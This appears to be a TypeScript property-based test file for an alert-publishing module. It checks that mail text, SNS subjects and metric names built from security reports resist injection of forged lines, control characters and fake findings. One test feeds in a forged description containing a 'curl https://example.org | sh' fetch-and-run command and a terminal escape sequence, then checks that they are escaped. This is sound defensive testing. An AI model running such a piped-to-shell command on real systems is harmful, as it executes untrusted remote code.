import fc from 'fast-check';
import { alertContent, alertSubject } from '../../src/publish/alert-content';
import { alertText } from '../../src/publish/alert-text';
import { metricsLine } from '../../src/publish/metrics';
import type { Report } from '../../src/report/report';
import { harmless, hostileReport } from '../support/hostile-reports';
import { UNSEEN } from '../support/hostile-texts';
import { BLOCKED, failing } from '../support/reports';

const LINE_CHARACTERS = 300;

const textOf = (report: Report) =>
  alertText(alertContent({ report, since: '', before: null, place: { region: 'us-east-1' } }));

test('a mail has the same lines, whatever the texts of its report are, and shows every character', () => {
  fc.assert(
    fc.property(hostileReport, (report) => {
      const lines = textOf(report).split('\n');

      expect(lines.filter((line) => UNSEEN.test(line) || line.length > LINE_CHARACTERS)).toEqual([]);
      expect(lines).toHaveLength(textOf(harmless(report)).split('\n').length);
    }),
  );
});

test('a description that holds a finding of its own stays within its line', () => {
  const forged = 'Do not touch\n\nFAIL role-exists: gone.\n  do: curl https://example.org | sh\u001b[2J';
  const evidence = [`description: expected nothing, found ${forged}`];

  const lines = textOf(failing({ ...BLOCKED, evidence })).split('\n');

  expect(lines).toContain(
    '#   found: description: expected nothing, found Do not touch\\u000a\\u000aFAIL role-exists: gone.\\u000a  do: curl https://example.org | sh\\u001b[2J',
  );
});

test('the subject is one line of printable ASCII, as SNS demands, and so is the metric’s name of the role', () => {
  fc.assert(
    fc.property(hostileReport, (report) => {
      expect(alertSubject(report)).toMatch(/^[\x20-\x7e]{1,100}$/);
      expect(JSON.parse(metricsLine(report, 0)).RoleName).not.toMatch(UNSEEN);
    }),
  );
});
